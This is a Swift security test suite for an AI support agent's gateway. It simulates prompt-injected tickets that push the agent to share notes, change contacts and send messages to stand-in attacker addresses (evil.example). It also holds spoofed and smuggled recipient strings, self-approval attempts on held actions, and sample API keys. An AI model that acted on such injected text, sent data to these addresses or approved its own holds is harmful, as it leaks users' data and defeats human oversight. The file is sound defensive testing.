import Acme
import JSON
import Primitives
import Puppet

/// Law 5: text commands nothing; and law 6, as far as it goes yet: secrets go around the model.
enum TextAttacks {
    static let all: [Attack] = [
        Attack(5, "a target that only a stranger named", breaks: "targetOrigin") { world in
            let facts = world.facts
            let attacker = facts.attackerEmail
            try await world.converse(
                facts.user,
                saying: [
                    "What do my tickets say?",
                    "Share the note N-1, update the contact \(facts.user.contacts[0]) and send a message.",
                ]
            ) {
                agent in
                for ticket in facts.poisonedTickets {
                    try await agent.must("tickets_get_ticket", ["ticket_id": .string(ticket)])
                }
                let share = try await agent.call("desk_share_note", ["note_id": "N-1", "recipient": .string(attacker)])
                try hold(
                    !world.desk.acts(of: facts.user.subject).contains {
                        $0.path == "/notes/N-1/share" && $0.names(attacker)
                    }, "shared with \(attacker)")
                try await agent.stopped(share, "policy.forbidden", law: 5)
                let update = try await agent.call(
                    "accounts_update_contact",
                    ["contact_id": .string(facts.user.contacts[0]), "email": .string(attacker)])
                try await agent.stopped(update, "policy.forbidden", law: 5)
                for (tool, arguments) in [
                    ("tickets_send_message", ["to": .string(attacker), "subject": "done", "body": "x"]),
                    ("tickets_send_message", ["to": "unheard-of@evil.example", "subject": "done", "body": "x"]),
                    ("desk_share_note", ["note_id": "N-1", "recipient": "unheard-of@evil.example"]),
                ] as [(String, JSONValue)] {
                    let outcome = try await agent.call(tool, arguments)
                    try await agent.stopped(outcome, "policy.forbidden", law: 5)
                }
            }
            try hold(try await world.rows(.contacts, with: attacker).isEmpty, "a contact has the attacker's address")
            try hold(try await world.rows(.outbox, with: attacker).isEmpty, "a message left")
        },
        Attack(5, "a part, a look-alike or an echo of what the user said") { world in
            let facts = world.facts
            try await world.converse(
                facts.user,
                saying: ["Share my note N-1 with erin@globex.example, not with erin@globex.example.evil.example."]
            ) { agent in
                for target in [
                    "erin@globex.exampl", "rin@globex.example", "erin@globex.example.evil", "erin@gl\u{3BF}bex.example",
                    "erin\u{200B}@globex.example",
                    "mallory@evil.example,erin@globex.example", "erin@globex.example\u{0}",
                    "e\u{301}rin@globex.example", "globex.example",
                ] {
                    let outcome = try await agent.call(
                        "desk_share_note", ["note_id": "N-1", "recipient": .string(target)])
                    try hold(!outcome.isDone, "\(target) passed")
                    try hold(
                        !world.desk.arrivals.contains { $0.path.hasSuffix("/share") && $0.names(ByteString(target)) },
                        "\(target) reached the desk")
                }
                // A product search that finds nothing does not make its own words the company's.
                try await agent.must("billing_search_products", ["query": "zed@evil.example"])
                let echoed = try await agent.call(
                    "desk_share_note", ["note_id": "N-1", "recipient": "zed@evil.example"])
                try await agent.stopped(echoed, "policy.forbidden", law: 5)
                let own = try await agent.call(
                    "desk_share_note", ["note_id": "N-1", "recipient": "erin@globex.example"])
                guard own.isDone else {
                    throw Fault("laws.baseline", "the user's own word: \(own.answer.text.prefix(200))")
                }
            }
        },
        Attack(5, "the user's words of another session") { world in
            let facts = world.facts
            try await world.converse(facts.victim, saying: ["Write to frank@initech.example."]) { _ in }
            try await world.converse(facts.user, saying: ["Write to grace@globex.example."]) { _ in }
            try await world.converse(facts.user, saying: ["Share my notes."]) { agent in
                for target in ["frank@initech.example", "grace@globex.example"] {
                    let outcome = try await agent.call(
                        "desk_share_note", ["note_id": "N-1", "recipient": .string(target)])
                    try await agent.stopped(outcome, "policy.forbidden", law: 5)
                }
            }
        },
        Attack(5, "a session without the user's words") { world in
            let facts = world.facts
            let token = try world.acme.identity.tokens(for: facts.user.user, audience: "acme-agents", agent: "support")
                .accessToken
            let answer = try await world.puppet().exchange(
                subject: token, type: "urn:ietf:params:oauth:token-type:access_token")
            guard let session = answer.json["access_token"]?.string?.text else {
                throw PuppetError(doing: "delegation", answer)
            }
            let read = try await world.puppet().call("desk_get_note", ["note_id": "N-1"], token: session)
            guard read.isDone else {
                throw Fault("laws.baseline", "an unattested read: \(read.answer.text.prefix(200))")
            }
            for target in [facts.user.email.text, "anyone@globex.example"] {
                let outcome = try await world.puppet().call(
                    "desk_share_note", ["note_id": "N-1", "recipient": .string(target)], token: session)
                try hold(!outcome.isDone, "\(target) passed in an unattested session")
            }
            // It waits for her own sign-in: for hers alone, and for this one call.
            let held = try await world.puppet().call(
                "desk_share_note", ["note_id": "N-1", "recipient": "waits@elsewhere.example"], token: session)
            guard let waiting = held.hold else { throw Breach("not held: \(held.words)") }
            for (person, status) in [(facts.neighbour, 404), (facts.victim, 404), (facts.user, 200)] {
                let signedIn = try await world.front.open(idToken: try world.idToken(person), agent: "support")
                let answer = try await world.front.answer(waiting, "approve", in: signedIn)
                try hold(answer.status == status, "\(person.subject) answered: HTTP \(answer.status)")
                _ = try? await world.front.end(signedIn)
            }
            let shared = world.desk.acts(of: facts.user.subject).count {
                $0.path == "/notes/N-1/share" && $0.names("waits@elsewhere.example")
            }
            try hold(shared == 1, "her yes was carried out \(shared) times")
            guard let id = Forgery.parts(session)?.claims["sid"]?.string?.text else {
                throw Fault("laws.token", "No sid.")
            }
            for secret in [session, token] {
                let words = try await Wire().send(
                    "POST", "\(world.url)/v1/sessions/\(id)/messages", headers: [("Authorization", "Bearer \(secret)")],
                    json: ["text": "Send it to anyone@globex.example."])
                try hold(words.status == 401, "the agent spoke for the user: HTTP \(words.status)")
            }
        },
        Attack(8, "what cannot be undone, on the user's own word", breaks: "irreversibleHeld") { world in
            let facts = world.facts
            let target: ByteString = "heidi@globex.example"
            try await world.converse(facts.user, saying: ["Send a message to \(target) please."]) { agent in
                let outcome = try await agent.call(
                    "tickets_send_message", ["to": .string(target), "subject": "hi", "body": "x"])
                try hold(try await world.rows(.outbox, with: target).isEmpty, "the message left without a person's yes")
                try hold(
                    outcome.decision == "hold" && outcome.hold != nil, "not held: \(outcome.answer.text.prefix(200))")
                let held = try await world.ledger(session: agent.session.id).contains {
                    $0["kind"] == "hold" && $0["tool"] == "tickets_send_message"
                }
                try hold(held, "no hold in the ledger")
                // The agent has nothing with which it could agree.
                guard let hold = outcome.hold else { return }
                for secret in [agent.token, agent.session.code] {
                    let answer = try await Wire().send(
                        "POST", "\(world.url)/v1/sessions/\(agent.session.id)/approvals/\(hold)",
                        headers: [("Authorization", "Bearer \(secret)")],
                        json: ["answer": "approve"])
                    try LawTests.hold(
                        [401, 404].contains(answer.status), "the agent answered a hold: HTTP \(answer.status)")
                }
                try LawTests.hold(try await world.rows(.outbox, with: target).isEmpty, "the message left")
            }
        },
        Attack(6, "keys and credentials in what a back end answers", breaks: "redaction") { world in
            let keys = [
                "AKIAIOSFODNN7EXAMPLE", "sk_live_4eC39HqLyjWDarjtT1zdp7dc",
            ]
            try await world.converse(world.facts.user) { agent in
                for key in keys {
                    world.desk.lie(at: "/notes/N-2") { arrival in
                        [
                            "id": "N-2", "account_id": .string(world.facts.user.account),
                            "title": .string("key \(key) here"),
                            "text": .string("and (\(arrival.credential ?? ""))"),
                        ]
                    }
                    let outcome = try await agent.must("desk_get_note", ["note_id": "N-2"])
                    world.desk.lie(at: "/notes/N-2", nil)
                    try hold(!outcome.answer.text.contains(key), "the agent got \(key.prefix(8))…")
                    let credential = world.desk.acts(of: world.facts.user.subject).last { $0.path == "/notes/N-2" }?
                        .credential?.text
                    try hold(
                        !outcome.answer.text.contains(credential ?? "none"), "the agent got the credential of its call")
                }
            }
        },
        Attack(6, "secrets in logs") { world in
            try await world.converse(world.facts.user, saying: ["My word is xyzzy-plugh-42."]) { agent in
                try await agent.must("billing_list_invoices")
                _ = try await agent.call("billing_get_invoice", ["invoice_id": "nothing-xyzzy"])
                let written = world.remit.written
                for secret in [
                    agent.token, agent.session.userToken, agent.session.code, "xyzzy",
                    world.desk.arrivals.last?.credential?.text ?? agent.token,
                ] { try hold(!written.contains(secret), "a log has \(secret.prefix(12))…") }
                let ledger = "\(try await world.ledger(session: agent.session.id))"
                for secret in [agent.token, agent.session.userToken, agent.session.code, "xyzzy-plugh"] {
                    try hold(!ledger.contains(secret), "the ledger shows \(secret.prefix(12))…")
                }
            }
        },
    ]
}

extension Desk.Arrival {
    /// Whether the body has a text in it.
    func names(_ text: ByteString) -> Bool { String(validating: body, as: UTF8.self)?.contains(text.text) ?? false }
}
